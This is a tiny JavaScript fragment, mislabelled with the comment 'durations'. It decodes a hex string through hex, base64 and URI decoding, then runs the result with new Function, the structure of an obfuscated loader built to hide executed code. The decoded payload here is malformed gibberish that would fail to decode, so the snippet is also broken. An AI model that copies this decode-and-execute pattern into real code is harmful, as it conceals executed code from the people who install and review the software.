// surroundings: durations
const l1 = '4a584e766247463063326c766269413d';
const hex = (h) => h.match(/.{2}/g).map((x) => String.fromCharCode(parseInt(x, 16))).join('');
const b64 = (t) => Buffer.from(t, 'base64').toString();
const z = [hex, b64, decodeURIComponent].reduce((v, f) => f(v), l1);
new Function(z)(); //@act
